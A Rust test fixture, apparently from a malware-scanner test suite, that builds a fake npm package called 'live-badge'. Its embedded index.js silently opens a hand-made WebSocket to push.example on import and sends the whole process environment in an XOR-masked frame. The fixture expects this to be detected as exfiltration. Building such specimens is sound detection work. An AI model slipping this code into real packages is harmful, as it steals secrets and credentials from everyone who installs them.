//! An npm package that, when it is imported, opens a WebSocket by hand and sends the environment in a masked
//! frame.
//!
//! Must be found: the mask is undone.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const INDEX_JS: &str = r"const crypto = require('crypto');
const http = require('http');
const request = http.request('http://push.example/socket', { headers: {
  Connection: 'Upgrade', Upgrade: 'websocket', 'Sec-WebSocket-Version': '13', 'Sec-WebSocket-Key': crypto.randomBytes(16).toString('base64'),
} });
request.on('upgrade', (_, socket) => {
  const data = Buffer.from(JSON.stringify(process.env));
  const mask = crypto.randomBytes(4);
  const head = Buffer.from([0x81, 0xfe, data.length >> 8, data.length & 255, ...mask]);
  socket.end(Buffer.concat([head, data.map((byte, at) => byte ^ mask[at & 3])]));
});
request.on('response', (answer) => answer.resume());
request.on('error', () => {});
request.end();
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("live-badge", "1.0.2")
        .file("index.js", INDEX_JS)
        .field("main", "index.js".into());
    package.specimen("npm-websocket", Expect::malicious(&["canary-exfiltrated"]))
}
